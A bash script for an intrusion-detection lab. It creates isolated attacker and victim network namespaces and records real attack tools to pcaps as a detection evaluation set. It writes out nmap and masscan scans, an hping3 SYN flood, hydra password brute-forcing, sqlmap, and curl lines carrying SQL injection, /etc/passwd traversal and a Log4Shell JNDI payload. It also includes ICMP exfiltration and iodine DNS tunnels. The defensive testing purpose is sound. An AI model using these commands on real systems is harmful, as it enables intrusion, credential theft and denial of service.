#!/usr/bin/env bash
# The real-tool evaluation set (issue #22): Debian's own attack tools run against victim
# services in two network namespaces this script creates, each run captured to a pcap, with a
# manifest saying which tool, version and command made it, its ATT&CK technique and whether it
# is an attack or benign. `ids2-lab eval DIR` replays the set through the rendered config.
#
#   sudo bench/realtools.sh [--out DIR] [--set full|ci] [NAME...]
#
# --out      where the pcaps and manifest.jsonl go (default target/realtools; emptied first)
# --set ci   only the captures CI makes (about two minutes); full (default) adds the slow ones
#            (nmap -T1 takes about four minutes) and the rest of the tools
# NAME...    only these captures (names as in the manifest)
#
# Needs root and: nmap masscan hping3 hydra iodine sqlmap openssh-server sshpass tcpdump curl
# (apt-get install -y --no-install-recommends …). Nothing outside the namespaces is touched:
# sshd sees a user of its own through /etc/passwd and /etc/shadow bind-mounted in its private
# mount namespace. Every tool runs under `timeout`; the namespaces and every process started here
# are removed on exit. The generated pcaps stay out of git: this script is their source.
set -euo pipefail
cd "$(dirname "$0")/.."
root=$PWD
out=target/realtools
set_name=full
only=()
while (($#)); do
  case $1 in
    --out) out=$2; shift 2 ;;
    --set) set_name=$2; shift 2 ;;
    -h|--help) sed -n '2,18p' "$0"; exit 0 ;;
    -*) echo "unknown option $1" >&2; exit 2 ;;
    *) only+=("$1"); shift ;;
  esac
done
[[ $set_name == full || $set_name == ci ]] || { echo "--set is full or ci, not $set_name" >&2; exit 2; }
[[ $(id -u) == 0 ]] || { echo "realtools: needs root (network namespaces, raw sockets)" >&2; exit 1; }
missing=()
for t in nmap masscan hping3 hydra iodine iodined sqlmap sshpass tcpdump curl ssh-keygen; do
  command -v "$t" >/dev/null || missing+=("$t")
done
[[ -x /usr/sbin/sshd ]] || missing+=(sshd)
if ((${#missing[@]})); then
  echo "realtools: missing ${missing[*]} (apt-get install -y --no-install-recommends nmap masscan hping3 hydra iodine sqlmap openssh-server sshpass tcpdump curl)" >&2
  exit 1
fi

ATT=10.77.0.10
VIC=10.77.0.20
TUN_DOMAIN=t.tun.example.net
TUN_PASSWORD=ids2-lab-tunnel
SSH_USER=labuser
SSH_PASSWORD='lab-Passw0rd-42'
tag=ids2rt-$$
att=$tag-att
vic=$tag-vic
work=$(mktemp -d /tmp/ids2-realtools.XXXXXX)
pids=()

cleanup() {
  local p
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
  ip netns del "$att" 2>/dev/null || true
  ip netns del "$vic" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# Background processes are started as `ip netns exec NS PROGRAM …` (which execs PROGRAM), never
# through a shell function, so the pid kept is the program's own and a signal reaches it.
in_att() { ip netns exec "$att" "$@"; }

# --- the namespaces: attacker and victim joined by a veth pair ---------------------------------
for ns in "$att" "$vic"; do ip netns add "$ns"; ip -n "$ns" link set lo up; done
ip -n "$att" link add eth0 type veth peer name eth0 netns "$vic"
ip -n "$att" addr add "$ATT/24" dev eth0
ip -n "$vic" addr add "$VIC/24" dev eth0
ip -n "$att" link set eth0 up
ip -n "$vic" link set eth0 up
vic_mac=$(ip -n "$vic" -br link show eth0 | awk '{print $3}')

# await_log FILE PATTERN SECONDS WHAT: until FILE has a line matching PATTERN (a program's own
# word that it is ready), bounded; past SECONDS, stop with FILE rather than run on without it.
await_log() {
  local tenths=0
  until grep -q "$2" "$1" 2>/dev/null; do
    if ((tenths++ >= $3 * 10)); then
      echo "realtools: $4 within $3 s: $(cat "$1")" >&2
      exit 1
    fi
    sleep 0.1
  done
}

# --- victim services ----------------------------------------------------------------------------
# HTTP (80), an FTP-style login (21) and DNS (53, moved aside to 5300 while iodined owns 53).
start_services() { # dns port
  ip netns exec "$vic" /usr/bin/python3 "$root/bench/realtools/services.py" serve "$VIC" "$1" >"$work/services.log" 2>&1 &
  svc_pid=$!
  pids+=("$svc_pid")
  await_log "$work/services.log" ready 5 "victim services did not start"
}
stop_services() { kill "$svc_pid" 2>/dev/null || true; wait "$svc_pid" 2>/dev/null || true; }

# sshd with a password user of its own, seen only inside its private mount namespace.
mkdir -p "$work/home"
ssh-keygen -q -t ed25519 -N '' -f "$work/ssh_host_ed25519_key"
cp /etc/passwd "$work/passwd"; cp /etc/shadow "$work/shadow"
echo "$SSH_USER:x:4242:4242:ids2 lab:$work/home:/bin/sh" >>"$work/passwd"
echo "$SSH_USER:$(openssl passwd -6 "$SSH_PASSWORD"):19000:0:99999:7:::" >>"$work/shadow"
chown 4242:4242 "$work/home"
chmod 755 "$work"
cat >"$work/sshd_config" <<EOF
Port 22
ListenAddress $VIC
HostKey $work/ssh_host_ed25519_key
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin no
StrictModes no
PidFile none
MaxStartups 64:30:128
LogLevel ERROR
EOF
ip netns exec "$vic" unshare --mount --propagation private sh -c "
  mount --bind '$work/passwd' /etc/passwd && mount --bind '$work/shadow' /etc/shadow &&
  mount -t tmpfs tmpfs /run && mkdir -p /run/sshd && exec /usr/sbin/sshd -D -e -f '$work/sshd_config'" \
  >"$work/sshd.log" 2>&1 &
pids+=($!)
for _ in $(seq 50); do in_att bash -c "exec 3<>/dev/tcp/$VIC/22" 2>/dev/null && break; sleep 0.1; done

# Word lists: common passwords (the right one is in none of them).
printf '%s\n' 123456 password admin 12345678 qwerty letmein welcome root toor changeme raspberry \
  'P@ssw0rd' dragon monkey football iloveyou master sunshine shadow 111111 abc123 trustno1 \
  passw0rd superman 654321 michael jennifer hunter2 princess solo >"$work/passwords.txt"

# --- captures -----------------------------------------------------------------------------------
mkdir -p "$out"
out=$(cd "$out" && pwd)
rm -f "$out"/*.pcap "$out/manifest.jsonl"
version_of() {
  case $1 in
    nmap) nmap --version | sed -n 's/^Nmap version \([^ ]*\).*/\1/p' ;;
    masscan) masscan --version 2>&1 | sed -n 's/^Masscan version \([^ ]*\).*/\1/p' ;;
    hping3) hping3 --version 2>&1 | sed -n 's/^hping3 version \([^ ]*\).*/\1/p' ;;
    hydra) hydra -h 2>&1 | sed -n '1s/^Hydra v\([^ ]*\).*/\1/p' ;;
    iodine) dpkg-query -W -f '${Version}' iodine ;;
    sqlmap) dpkg-query -W -f '${Version}' sqlmap ;;
    curl) curl --version | sed -n '1s/^curl \([^ ]*\).*/\1/p' ;;
    ssh) ssh -V 2>&1 | sed 's/,.*//' ;;
    ping) dpkg-query -W -f '${Version}' iputils-ping ;;
    *) echo unknown ;;
  esac
}
json() { /usr/bin/python3 -c 'import json,sys; print(json.dumps(sys.argv[1]))' "$1"; }

# capture NAME TOOL TECHNIQUE EXPECTED SETS LIMIT_SECS COMMAND...: runs COMMAND in the attacker's
# namespace (bounded by LIMIT_SECS) while tcpdump records the victim's eth0.
capture() {
  local name=$1 tool=$2 technique=$3 expected=$4 sets=$5 limit=$6
  shift 6
  if ((${#only[@]})) && [[ " ${only[*]} " != *" $name "* ]]; then return; fi
  if [[ $set_name == ci && $sets != *ci* ]]; then return; fi
  local pcap=$out/$name.pcap t0 t1 rc=0
  ip netns exec "$vic" tcpdump -i eth0 -U -s 0 -w "$pcap" >"$work/tcpdump.log" 2>&1 &
  local dump=$!
  # A tool started before tcpdump listens is recorded from the middle: a short capture (the
  # tunnel's nine seconds) could lose what its detection needs.
  await_log "$work/tcpdump.log" 'listening on' 30 "$name: tcpdump did not start listening"
  t0=$(date +%s.%N)
  in_att timeout -k 2 "$limit" "$@" >"$work/$name.log" 2>&1 || rc=$?
  t1=$(date +%s.%N)
  sleep 1
  kill -INT "$dump"; wait "$dump" 2>/dev/null || true
  local packets
  packets=$(grep -o '^[0-9]* packets captured' "$work/tcpdump.log" | awk '{print $1}')
  printf '%-22s %-8s %-10s %-7s %6.1fs %6s packets  exit %s\n' "$name" "$tool" "$technique" \
    "$expected" "$(awk -v a="$t1" -v b="$t0" 'BEGIN{print a-b}')" "${packets:-?}" "$rc"
  printf '{"name":%s,"tool":%s,"version":%s,"command":%s,"technique":%s,"expected":%s,"pcap":%s,"seconds":%.1f,"packets":%s,"exit":%s}\n' \
    "$(json "$name")" "$(json "$tool")" "$(json "$(version_of "$tool")")" "$(json "$*")" \
    "$(json "$technique")" "$(json "$expected")" "$(json "$name.pcap")" \
    "$(awk -v a="$t1" -v b="$t0" 'BEGIN{print a-b}')" "${packets:-0}" "$rc" >>"$out/manifest.jsonl"
}

start_services 53
echo "victim $VIC (HTTP 80, FTP 21, DNS 53, sshd 22), attacker $ATT; pcaps in $out"

# Benign first: what a LAN does all day.
capture benign-web curl none benign ci 60 bash -c "
  for p in / /style.css /app.js /logo.png /news /about /api/v1/status /missing.html / /news; do
    curl -s -o /dev/null -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' http://$VIC\$p
    sleep 0.5
  done"
capture benign-dns python3 none benign ci 60 /usr/bin/python3 "$root/bench/realtools/services.py" dns "$VIC" \
  www.debian.org:A www.debian.org:AAAA deb.debian.org:A security.debian.org:AAAA \
  debian.org:MX _dmarc.debian.org:TXT debian.org:TXT www.wikipedia.org:A upload.wikimedia.org:AAAA \
  github.com:A api.github.com:A objects.githubusercontent.com:A \
  d2s4m3tq7zd0x1.cloudfront.net:A e12345.dscg.akamaiedge.net:A \
  fonts.gstatic.com:A ocsp.digicert.com:A time.cloudflare.com:A \
  selector1._domainkey.example.com:TXT _sip._tcp.example.com:SRV 1.0.0.127.in-addr.arpa:A
capture benign-ssh-login ssh none benign ci 60 sshpass -p "$SSH_PASSWORD" ssh -o StrictHostKeyChecking=no \
  -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR "$SSH_USER@$VIC" 'uname -a; id; ls -la'
capture benign-ping ping none benign ci 30 ping -c 5 -i 0.5 "$VIC"
capture benign-apt curl none benign ci 60 bash -c "
  for p in /dists/bookworm/InRelease /dists/bookworm/main/binary-arm64/Packages.xz \
           /pool/main/c/curl/curl_7.88.1-10_arm64.deb /pool/main/j/jq/jq_1.6-2.1_arm64.deb; do
    curl -s -o /dev/null -A 'Debian APT-HTTP/1.3 (2.6.1)' http://$VIC\$p
  done"

# Reconnaissance.
capture nmap-syn nmap T1046 attack ci 120 nmap -n -Pn -sS -T4 -p 1-1000 "$VIC"
capture nmap-connect-t2 nmap T1046 attack ci 120 nmap -n -Pn -sT -T2 -p 1-40 "$VIC"
capture nmap-connect-t1 nmap T1046 attack full 420 nmap -n -Pn -sT -T1 -p 1-16 "$VIC"
capture nmap-udp nmap T1046 attack full 180 nmap -n -Pn -sU -T4 -p 1-60 "$VIC"
capture nmap-version nmap T1046 attack full 180 nmap -n -Pn -sV -p 21,22,53,80 "$VIC"
capture nmap-os nmap T1082 attack full 180 nmap -n -Pn -O --max-os-tries 1 -p 22,80,1 "$VIC"
capture masscan masscan T1046 attack full 30 masscan "$VIC" -p 1-1000 --rate 300 --wait 1 \
  -e eth0 --router-mac "$vic_mac"
capture hping3-slow-scan hping3 T1046 attack full 120 hping3 -S --scan 1-40 -i 2 "$VIC"
capture hping3-syn-flood hping3 T1498 attack ci 30 hping3 -S -p 80 -i u1000 -c 3000 "$VIC"

# Credential access.
capture hydra-ssh hydra T1110 attack ci 120 hydra -l "$SSH_USER" -P "$work/passwords.txt" -t 4 -I "ssh://$VIC"
capture hydra-http-basic hydra T1110 attack full 120 hydra -l admin -P "$work/passwords.txt" -t 4 -I "http-get://$VIC/admin"
capture hydra-ftp hydra T1110 attack full 120 hydra -l admin -P "$work/passwords.txt" -t 4 -I "ftp://$VIC"

# Web exploitation.
capture sqlmap sqlmap T1190 attack full 300 sqlmap -u "http://$VIC/item?id=1" --batch --technique=BU \
  --level 1 --risk 1 --threads 2 --timeout 5 --retries 0 --output-dir "$work/sqlmap" --flush-session
capture curl-exploits curl T1190 attack ci 60 bash -c "
  curl -s -o /dev/null 'http://$VIC/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--'
  curl -s -o /dev/null --path-as-is 'http://$VIC/static/../../../../etc/passwd'
  curl -s -o /dev/null -H 'X-Api-Version: \${jndi:ldap://$ATT:1389/a}' http://$VIC/"

# Command and control, exfiltration.
capture http-beacon curl T1071.001 attack full 60 bash -c "
  for i in \$(seq 6); do
    curl -s -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)' http://$VIC/api/v1/check-in?id=4f1c
    sleep 2
  done"
capture icmp-exfil hping3 T1048 attack full 60 hping3 -1 -d 1200 -E /etc/services -c 10 -i u300000 "$VIC"

# DNS tunnels: iodined owns the victim's port 53 (forwarding other names to the services' DNS
# on 5300); each client run brings the tunnel up and pings through it.
stop_services
start_services 5300
iodine_run() { # name, sets, iodine options
  local name=$1 sets=$2
  shift 2
  ip netns exec "$vic" iodined -f -c -P "$TUN_PASSWORD" -l "$VIC" -p 53 -b 5300 192.168.99.1/27 "$TUN_DOMAIN" \
    >"$work/iodined-$name.log" 2>&1 &
  local d=$!
  pids+=("$d")
  # iodined sets up its tun device before it binds port 53: its own word that it listens,
  # rather than a fixed second, which a loaded machine can outlast.
  await_log "$work/iodined-$name.log" '^Listening to dns' 10 "$name: iodined did not listen"
  capture "$name" iodine T1071.004 attack "$sets" 60 bash -c "
    iodine -f -r -P '$TUN_PASSWORD' $* $VIC $TUN_DOMAIN & c=\$!
    for i in \$(seq 100); do ip -br addr show dns0 2>/dev/null | grep -q 192.168.99 && break; sleep 0.2; done
    ping -c 8 -i 0.5 -s 200 192.168.99.1; kill \$c; wait \$c"
  kill "$d" 2>/dev/null || true
  wait "$d" 2>/dev/null || true
}
iodine_run iodine-null ci -T NULL
iodine_run iodine-cname-base32 full -T CNAME -O base32
iodine_run iodine-mx full -T MX
iodine_run iodine-txt-base64 full -T TXT -O base64
iodine_run iodine-private full -T PRIVATE

echo "manifest: $out/manifest.jsonl ($(wc -l <"$out/manifest.jsonl") captures)"
